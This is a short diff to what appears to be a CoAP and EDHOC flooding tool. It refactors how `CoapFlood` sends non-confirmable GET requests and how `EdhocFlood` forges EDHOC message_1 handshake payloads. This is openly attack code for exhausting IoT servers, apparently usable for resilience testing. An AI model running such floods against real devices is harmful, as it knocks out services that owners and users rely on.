@@ -57,7 +57,9 @@ class CoapFlood(Attack):
         )
 
     def request(self, index: int) -> aiocoap.Message:
-        return aiocoap.Message(mtype=aiocoap.NON, code=aiocoap.GET, uri_path=self.path)
+        message = aiocoap.Message(code=aiocoap.GET, uri_path=self.path)
+        message.mtype = aiocoap.NON  # no ACKs asked for: a flood, not a client
+        return message
 
     async def send_one(self, index: int) -> None:
         message = self.request(index)
@@ -86,9 +88,9 @@ class EdhocFlood(CoapFlood):
         g_x = key.public_key().public_numbers().x.to_bytes(32, "big")
         c_i = index % 48 - 24  # one-byte CBOR integers -24..23, as lakers chooses
         payload = b"".join(cbor2.dumps(v) for v in (True, METHOD_STAT_STAT, SUITE_P256, g_x, c_i))
-        return aiocoap.Message(
-            mtype=aiocoap.CON, code=aiocoap.POST, uri_path=self.path, payload=payload
-        )
+        message = aiocoap.Message(code=aiocoap.POST, uri_path=self.path, payload=payload)
+        message.mtype = aiocoap.CON  # as an initiator sends it (the server piggybacks message_2)
+        return message
 
 
 def _address(raw: str) -> str:
